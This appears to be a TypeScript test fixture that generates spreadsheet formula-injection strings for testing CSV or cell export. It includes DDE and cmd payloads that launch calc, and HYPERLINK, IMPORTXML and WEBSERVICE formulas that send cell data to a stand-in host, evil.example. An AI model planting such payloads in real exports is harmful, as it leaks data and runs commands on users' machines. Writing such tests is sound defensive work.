const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
/** Characters that spreadsheets skip or take for the start of a formula. */
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  ' \t',
  '"',
]
const FORMULAS = [
  '1+1',
  'SUM(1;1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?x="&A1,"Open")',
  'IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'தக்காளி',
]
/** Texts without a formula of their own that may split or merge cells. */
const OTHERS = [
  '"',
  '""',
  '","=1+1',
  '"\r\n=1+1',
  ';=1+1',
  'a,b',
  'a;b\tc',
  'two\r\nlines',
  'two\nlines',
  'two\rlines',
  "'=1+1",
  'கத்தரிக்காய், "நாட்டு"',
  'வெண்டை\nக்காய்',
  '\\"',
  '|x',
  '%0a=1',
  '0123',
  '1e9',
  'null',
]

/** Distinct names: formulas with every sign, alternating with other texts. */
export function hostileNames(amount: number): string[] {
  return Array.from({ length: amount }, (_, at) => {
    const turn = Math.floor(at / 2)
    return `${at % 2 === 0 ? formula(turn) : pick(OTHERS, turn)} ${at}`
  })
}

function formula(turn: number): string {
  const before = pick(BEFORE, Math.floor(turn / SIGNS.length))
  const all = SIGNS.length * BEFORE.length
  return `${before}${pick(SIGNS, turn)}${pick(FORMULAS, turn + Math.floor(turn / all))}`
}

function pick<Item>(items: Item[], at: number): Item | undefined {
  return items[at % items.length]
}
